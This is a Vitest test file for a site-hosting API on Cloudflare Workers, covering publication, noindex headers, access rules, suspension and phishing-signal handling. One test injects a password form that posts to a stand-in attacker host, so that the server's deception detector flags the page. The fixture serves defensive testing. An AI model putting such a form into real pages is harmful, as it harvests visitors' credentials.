import { env } from 'cloudflare:workers';
import { eq } from 'drizzle-orm';
import { expect, test } from 'vitest';
import { createDatabase } from '#worker/db/client.ts';
import { siteReports } from '#worker/db/schema/index.ts';
import { createAnonymousContext, createUserContext } from '#worker/testing/context.ts';
import { signIn } from '#worker/testing/factories.ts';
import { createClient, type TestClient } from '#worker/testing/request.ts';
import { publishSite } from './publish-site.ts';
import { saveSite } from './save-site.ts';
import { findSite } from './site-queries.ts';
import { reinstateSite, suspendSite } from './suspend-site.ts';

const HTML =
  '<!doctype html><html><head><title>Forno</title></head><body><p>Pane</p></body></html>';

async function savedSite(client: TestClient): Promise<string> {
  const uuid = crypto.randomUUID();
  const assets = { 'style.css': 'body { color: navy }' };
  expect((await client.post(`/api/s/${uuid}`, { html: HTML, assets })).status).toBe(200);
  return uuid;
}

async function robotsTags(uuid: string): Promise<unknown> {
  const paths = [`/s/${uuid}/index.html`, `/s/${uuid}/style.css`];
  const answers = await Promise.all(paths.map((path) => createClient().get(path)));
  return answers.map(({ status, headers }) => [status, headers.get('x-robots-tag')]);
}

const LEFT_OUT = [
  [200, 'noindex'],
  [200, 'noindex'],
];
const INDEXED = [
  [200, null],
  [200, null],
];

async function publishedAt(client: TestClient, uuid: string): Promise<unknown> {
  const { sites } = await (
    await client.get('/api/sites')
  ).json<{ sites: { uuid: string; published_at: unknown }[] }>();
  return sites.find((site) => site.uuid === uuid)?.published_at;
}

test('a saved page is at its address, and left out of search engines until its owner publishes it', async () => {
  const { client } = await signIn();
  const uuid = await savedSite(client);
  expect(await robotsTags(uuid)).toEqual(LEFT_OUT);
  expect((await client.send('PUT', `/api/site/${uuid}/publication`)).status).toBe(200);
  expect(await robotsTags(uuid)).toEqual(INDEXED);
  await client.post(`/api/s/${uuid}`, { html: HTML.replace('Pane', 'Pane e pizza') });
  expect(await robotsTags(uuid)).toEqual(INDEXED);
  expect((await client.send('DELETE', `/api/site/${uuid}/publication`)).status).toBe(200);
  expect(await robotsTags(uuid)).toEqual(LEFT_OUT);
});

test('publishing twice keeps the first time, and taking it back twice succeeds', async () => {
  const { client } = await signIn();
  const uuid = await savedSite(client);
  await client.send('PUT', `/api/site/${uuid}/publication`);
  const first = await publishedAt(client, uuid);
  await client.send('PUT', `/api/site/${uuid}/publication`);
  expect([typeof first, await publishedAt(client, uuid)]).toEqual(['string', first]);
  for (const _ of [1, 2]) {
    const answer = await client.send('DELETE', `/api/site/${uuid}/publication`);
    expect(await answer.json()).toMatchObject({ ok: true, site: { uuid, published_at: null } });
  }
});

test('only the owner publishes or takes it back', async () => {
  const { client } = await signIn();
  const uuid = await savedSite(client);
  const { client: other } = await signIn();
  for (const method of ['PUT', 'DELETE']) {
    const refused = await other.send(method, `/api/site/${uuid}/publication`);
    const anonymous = await createClient().send(method, `/api/site/${uuid}/publication`);
    const unknown = await client.send(method, `/api/site/${crypto.randomUUID()}/publication`);
    expect([refused.status, anonymous.status, unknown.status]).toEqual([403, 401, 404]);
  }
  expect(await robotsTags(uuid)).toEqual(LEFT_OUT);
});

test('an account whose address is not confirmed publishes nothing where mail is delivered', async () => {
  const mail = { enabled: true, delivers: true, send: () => Promise.resolve() };
  const ctx = await createUserContext({ mail });
  const uuid = crypto.randomUUID();
  await saveSite({ ctx, input: { uuid, html: HTML } });
  if (ctx.actor.kind === 'user') ctx.actor.session.user.isVerified = false;
  const publishing = publishSite({ ctx, input: { uuid, seen: 'warn' } });
  await expect(publishing).rejects.toMatchObject({ code: 'auth.unverified' });
  expect(await findSite(ctx.db, uuid)).toMatchObject({ publishedAt: null, seen: 'none' });
});

test('a suspended site is not published, and a deleted one comes back unpublished', async () => {
  const { client } = await signIn();
  const [suspended, deleted] = [await savedSite(client), await savedSite(client)];
  for (const uuid of [suspended, deleted]) {
    await client.send('PUT', `/api/site/${uuid}/publication`);
  }
  const operator = { ...createAnonymousContext(), db: createDatabase(env.DB) };
  await suspendSite(operator, suspended);
  const refused = await client.send('PUT', `/api/site/${suspended}/publication`);
  expect([refused.status, await refused.json()]).toMatchObject([409, { code: 'sites.hidden' }]);
  await reinstateSite(operator, suspended);
  expect(await robotsTags(suspended)).toEqual(LEFT_OUT);
  await client.send('DELETE', `/api/site/${deleted}`);
  await client.post(`/api/s/${deleted}`, { html: HTML, assets: { 'style.css': 'p {}' } });
  expect(await robotsTags(deleted)).toEqual(LEFT_OUT);
});

const look = (client: TestClient, uuid: string, seen: string) =>
  client.send('PUT', `/api/site/${uuid}/publication`, { seen, signs: ['secret', 'brand-claim'] });

async function shownAs(client: TestClient, uuid: string): Promise<unknown[]> {
  const { sites } = await (
    await client.get('/api/sites')
  ).json<{ sites: { uuid: string; status: string }[] }>();
  const page = await createClient().get(`/s/${uuid}/index.html`);
  const hasStrip = (await page.text()).includes('not affiliated with any company');
  return [sites.find((site) => site.uuid === uuid)?.status, page.status, hasStrip];
}

test('a page in which the browser saw signs of deception is published with the warning strip, or held back', async () => {
  const { client } = await signIn();
  const [warned, held] = [await savedSite(client), await savedSite(client)];
  expect((await look(client, warned, 'warn')).status).toBe(200);
  expect(await shownAs(client, warned)).toEqual(['flagged', 200, true]);
  const refused = await look(client, held, 'hold');
  expect([refused.status, await refused.json()]).toMatchObject([409, { code: 'sites.hidden' }]);
  expect(await shownAs(client, held)).toEqual(['held', 403, false]);
  expect(await publishedAt(client, held)).toBeNull();
  const db = createDatabase(env.DB);
  const reports = await db.query.siteReports.findMany({ where: eq(siteReports.siteUuid, held) });
  expect(reports.map(({ source, reason }) => [source, reason])).toEqual([
    ['heuristic', 'as-shown, secret, brand-claim'],
  ]);
});

test('neither a save, a milder look nor a publication without one takes back what was seen', async () => {
  const { client } = await signIn();
  const uuid = await savedSite(client);
  await look(client, uuid, 'warn');
  expect((await look(client, uuid, 'none')).status).toBe(200);
  expect((await client.send('PUT', `/api/site/${uuid}/publication`)).status).toBe(200);
  expect(await shownAs(client, uuid)).toEqual(['flagged', 200, true]);
  await client.post(`/api/s/${uuid}`, { html: HTML.replace('Pane', 'Pizza') });
  expect(await shownAs(client, uuid)).toEqual(['flagged', 200, true]);
  expect((await look(client, uuid, 'none')).status).toBe(200);
  expect(await shownAs(client, uuid)).toEqual(['active', 200, false]);
});

test('what the browser saw never lowers what the server found itself', async () => {
  const { client } = await signIn();
  const uuid = crypto.randomUUID();
  const form = '<form action="https://evil.example/x"><input type="password"></form>';
  await client.post(`/api/s/${uuid}`, { html: HTML.replace('</body>', `${form}</body>`) });
  expect((await look(client, uuid, 'none')).status).toBe(200);
  expect(await shownAs(client, uuid)).toEqual(['flagged', 200, true]);
});

test('an operator’s decision on a page outweighs further looks at it, until it is changed', async () => {
  const { client } = await signIn();
  const uuid = await savedSite(client);
  await look(client, uuid, 'hold');
  await reinstateSite({ ...createAnonymousContext(), db: createDatabase(env.DB) }, uuid);
  expect((await look(client, uuid, 'hold')).status).toBe(200);
  expect(await shownAs(client, uuid)).toEqual(['active', 200, false]);
  await client.post(`/api/s/${uuid}`, { html: HTML.replace('Pane', 'Torta') });
  expect((await look(client, uuid, 'hold')).status).toBe(409);
  expect(await shownAs(client, uuid)).toEqual(['held', 403, false]);
});

test('a look that is none of ours is refused', async () => {
  const { client } = await signIn();
  const uuid = await savedSite(client);
  const bodies = [{ seen: 'cleared' }, { seen: 'none', signs: ['<b>'] }, { signs: 'secret' }];
  for (const body of bodies) {
    const refused = await client.send('PUT', `/api/site/${uuid}/publication`, body);
    expect(refused.status).toBe(400);
  }
  expect(await publishedAt(client, uuid)).toBeNull();
});
